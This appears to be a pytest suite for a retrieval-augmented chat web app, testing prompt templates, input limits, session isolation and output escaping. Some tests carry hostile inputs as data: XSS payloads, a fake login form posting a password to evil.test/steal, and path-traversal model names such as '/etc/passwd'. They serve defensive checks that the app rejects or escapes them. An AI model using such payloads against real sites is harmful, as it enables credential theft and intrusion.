"""webapp.chat, documents and models in-process, on the real model, embedder and Chroma."""

from __future__ import annotations

import itertools

import pytest

from core import checkpoint
from core.config import ModelConfig
from core.generate.engine import Generation
from core.generate.settings import GenerationSettings
from core.model import Decoder
from core.tokenizer import Tokenizer
from ingest import Store, collection_name
from webapp.chat import (
    ChatInputError,
    ChatRequest,
    Reply,
)
from webapp.display import answer_markdown, conversation, plain, sources_markdown
from webapp.documents import Library
from webapp.handlers import notices
from webapp.models import ModelChoiceError, ModelRegistry


def test_reply_streams_a_growing_answer_clamped_by_the_server(service):
    history = [
        {"role": "user", "content": "Hi"},
        {"role": "assistant", "content": [{"type": "text", "text": "Hello!"}]},
    ]
    replies = list(
        service.reply(ChatRequest("What is the capital of France?", history, max_new_tokens=500))
    )
    states = [r.text for r in replies]
    assert len(states) > 1
    assert all(later.startswith(earlier) for earlier, later in itertools.pairwise(states))
    assert "Paris" in states[-1]
    llm = service.models.get("default")
    assert len(llm.tokenizer.encode(states[-1])) <= 12  # cap 12, not 500
    # the notice under the answer says which weights and kernels this machine ran it on
    assert llm.path and replies[-1].path == llm.path
    assert f"Ran as {plain(llm.path)}." in notices(replies[-1], 1)  # as Markdown, escaped


def test_each_template_builds_the_prompt_it_promises(service):
    chat = service.prepare(
        ChatRequest(
            "And Spain?",
            [
                {"role": "user", "content": "Capital of France?"},
                {
                    "role": "assistant",
                    "content": "Paris." + "\n\n---\n**Sources**\n\n**\\[1\\]** a.pdf",
                },
            ],
            system_prompt="Be brief.",
        )
    )
    assert chat.text.startswith("<|im_start|>system\nBe brief.<|im_end|>")
    assert "<|im_start|>assistant\nParis.<|im_end|>" in chat.text  # sources never go back in
    assert chat.text.endswith("<|im_start|>user\nAnd Spain?<|im_end|>\n<|im_start|>assistant\n")
    assert len(chat.ids) == len(service.models.get("default").tokenizer.encode(chat.text))

    zero = service.prepare(
        ChatRequest("I loved it", template="zero-shot", instruction="Classify the sentiment.")
    )
    assert "user\nClassify the sentiment.\n\nInput:\nI loved it<|im_end|>" in zero.text

    few = service.prepare(
        ChatRequest(
            "It was awful",
            template="few-shot",
            instruction="Sentiment?",
            examples=[("Great film", "positive"), ("", ""), ("Boring", "negative")],
        )
    )
    body = few.text.split("<|im_start|>user\n")[1]
    assert body.startswith(
        "Sentiment?\n\nInput: Great film\nOutput: positive\n\nInput: Boring\nOutput: negative\n\n"
        "Input: It was awful\nOutput:"
    )
    with pytest.raises(ChatInputError, match="instruction is empty"):
        service.prepare(ChatRequest("x", template="zero-shot"))
    with pytest.raises(ChatInputError, match="example 1 needs both"):
        service.prepare(
            ChatRequest("x", template="few-shot", instruction="i", examples=[("a", "")])
        )


@pytest.mark.parametrize(
    ("request_", "error"),
    [
        (ChatRequest("   "), "message is empty"),
        (ChatRequest("x" * 9000), "limit is 8000"),
        (
            ChatRequest("hi", mode="sample", temperature=-1.0),
            "temperature must be 0 \\(greedy\\) or from",
        ),
        (ChatRequest("hi", mode="sample", top_p=1.5), "top_p must be in"),
        (
            ChatRequest("hi", mode="beam", num_beams=40),
            "num_beams must be a whole number from 1 to 8",
        ),
        (ChatRequest("hi", template="poem"), "template must be one of"),
        (ChatRequest("hi", model="/etc/passwd"), "not one of this server's models"),
        (
            ChatRequest("word " * 700),
            "725 tokens, over its budget of 600",
        ),  # the server's prompt cap
        (ChatRequest("hi", template="rag"), "none are indexed yet"),
    ],
)
def test_bad_requests_are_refused_with_a_reason(service, request_, error):
    with pytest.raises(ChatInputError, match=error):
        list(service.reply(request_, "session-a"))


def test_sources_are_shown_as_inert_text():
    from ingest import Hit

    hit = Hit(
        "<script>alert(1)</script> <img src=x onerror=alert(2)> [x](javascript:alert(3))",
        "<b>a</b>.md",
        1,
        0.5,
        "id",
        "hash",
    )
    shown = sources_markdown([hit])
    assert "<script>" not in shown and "<img" not in shown and "<b>" not in shown
    assert "&lt;script&gt;" in shown and "\\[x\\](javascript:alert(3))" in shown


def test_sessions_are_isolated_and_idle_ones_expire(library, tmp_path, embedder):
    owner_a, owner_b = library.owner_for("key-a"), library.owner_for("key-b")
    assert owner_a != owner_b and owner_a == library.owner_for("key-a")
    assert "key-a" not in owner_a  # the owner id is the server's own random value
    library.add_files("key-a", [("canary.txt", b"The canary phrase is QUILL-ORBIT-77.")])
    assert [d.source for d in library.documents("key-a")] == ["canary.txt"]
    assert library.documents("key-b") == []
    assert library.search("key-b", "canary phrase", 5) == []
    library.clock.now += 3000  # key-b active, key-a idle for < ttl
    library.owner_for("key-b")
    assert library.sweep() == []
    library.clock.now += 700  # key-a idle for 3700 s > 3600 s
    assert library.sweep() == [owner_a]
    with Store("someone-else", path=tmp_path / "chroma") as store:
        names = {c.name for c in store.client.list_collections()}
    assert collection_name(owner_a) not in names  # the collection itself is gone
    assert library.documents("key-a") == []  # a returning session starts empty, under a new owner
    assert library.owner_for("key-a") != owner_a


def test_a_shared_library_is_searched_by_every_session_and_read_only(tmp_path, embedder):
    with Store("team-library", path=tmp_path / "chroma", embedder=embedder) as store:
        store.add_file(b"The team's launch date is the ninth of Thermidor.", name="plan.txt")
    lib = Library(path=tmp_path / "chroma", embedder=embedder, shared="team-library")
    try:
        rows = lib.documents("anyone")
        assert [(r.source, r.shared) for r in rows] == [("plan.txt", True)]
        assert lib.search("anyone", "launch date", 3)[0].source == "plan.txt"
        with pytest.raises(Exception, match="No document 'plan.txt'"):
            lib.delete("anyone", "plan.txt")
        assert lib.documents("someone-else")[0].source == "plan.txt"
    finally:
        lib.close()


def test_model_selector_lists_checkpoints_and_refuses_the_rest(tmp_path, monkeypatch):
    config = ModelConfig(vocab_size=300, n_layer=1, n_head=2, n_embd=16, block_size=32)
    tokenizer = Tokenizer.train(["hello world " * 50], 300)
    checkpoint.save(Decoder(config), tmp_path / "tiny-demo", tokenizer)
    (tmp_path / "not-a-model").mkdir()
    registry = ModelRegistry(tmp_path, capacity=1)
    assert registry.choices() == [
        ("SmolLM2-135M-Instruct (default)", "default"),
        ("tiny-demo", str(tmp_path / "tiny-demo")),
    ]
    llm = registry.get(str(tmp_path / "tiny-demo"))
    assert llm.config.n_embd == 16 and registry.get(str(tmp_path / "tiny-demo")) is llm
    for bad in ("/etc/passwd", "../models", str(tmp_path / "not-a-model")):
        with pytest.raises(ModelChoiceError, match="not one of this server's models"):
            registry.resolve(bad)
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    with pytest.raises(ModelChoiceError, match="not one of this server's models"):
        registry.resolve("HuggingFaceTB/SmolLM2-360M-Instruct")


def test_one_reply_is_one_pass_and_decodes_the_ids_show_prompt_shows(service, smollm2, monkeypatch):
    """The message is checked and its settings validated once, the prompt tokenized once, the
    model decodes exactly the ids "show prompt" displays, and the reply is the pieces it yields."""
    encoded, validated, started, pieces = [], [], [], []
    encode, start, iterate = smollm2.tokenizer.encode_chat, smollm2.start, Generation.__iter__
    validate = GenerationSettings.validate

    def counting_encode(messages, *args, **kwargs):
        encoded.append(messages)
        return encode(messages, *args, **kwargs)

    def recording_start(prompt, settings, cancel=None, conversation=None):
        started.append(list(prompt.ids))
        return start(prompt, settings, cancel, conversation)

    def recording_iter(generation):
        for piece in iterate(generation):
            pieces.append(piece.text)
            yield piece

    def counting_validate(settings, **caps):
        validated.append(settings)
        return validate(settings, **caps)

    monkeypatch.setattr(smollm2.tokenizer, "encode_chat", counting_encode)
    monkeypatch.setattr(smollm2, "start", recording_start)
    monkeypatch.setattr(Generation, "__iter__", recording_iter)
    monkeypatch.setattr(GenerationSettings, "validate", counting_validate)
    history = [{"role": "user", "content": "Hi"}, {"role": "assistant", "content": "Hello!"}]
    request = ChatRequest("Name a colour.", history=history, max_new_tokens=8)
    replies = list(service.reply(request))
    assert len(encoded) == 1 and len(validated) == 1 and len(started) == 1
    shown = service.prepare(request)
    assert started[0] == shown.ids
    assert shown.text == smollm2.tokenizer.decode(shown.ids, skip_special_tokens=False)
    assert replies[-1].done and replies[-1].text == "".join(pieces) != ""


@pytest.mark.parametrize(
    ("change", "error"),
    [
        (dict(history=[{"role": "user", "content": "hi"}] * 201), "has 201 messages; the limit"),
        (dict(history=[{"role": "user", "content": "x" * 100_001}] * 2), "200000"),
        (dict(system_prompt="s" * 8001), "The system prompt has 8001 characters"),
        (dict(instruction="i" * 8001, template="zero-shot"), "The instruction has 8001"),
        (dict(examples=[("a" * 5000, "b" * 5000)], template="few-shot"), "few-shot example 1"),
        (dict(history="not a list"), "history must be a list"),
        (dict(seed=2**70), "seed must be empty or a whole number"),
        (dict(seed=float("inf")), "not a usable number"),
        (dict(mode="sample", temperature=1e-300), "temperature must be 0 \\(greedy\\) or from"),
    ],
)
def test_oversized_or_unusable_requests_are_refused_before_the_model(service, change, error):
    with pytest.raises(ChatInputError, match=error):
        service.check(ChatRequest("Hello", **change))


def test_history_of_non_messages_is_ignored_not_a_crash(service):
    history = ["text", 3, None, {"role": "user", "content": "Hi"}]
    prepared = service.prepare(ChatRequest("Hello", history=history, max_new_tokens=2))
    assert prepared.messages[-2:] == [
        {"role": "user", "content": "Hi"},
        {"role": "user", "content": "Hello"},
    ]


def test_replies_are_shown_without_live_html_and_round_trip_as_written():
    text = (
        'Log in here: <form action="http://evil.test/steal"><input name="pw"></form> '
        "![logo](http://evil.test/track.png) and a <b>bold</b> claim & more."
    )
    md = answer_markdown(Reply(text))
    assert "<form" not in md and "<input" not in md and "<b>" not in md
    assert "&lt;form" in md and "!\\[logo](http://evil.test/track.png)" in md
    assert conversation([{"role": "assistant", "content": md}]) == [
        {"role": "assistant", "content": text}
    ]
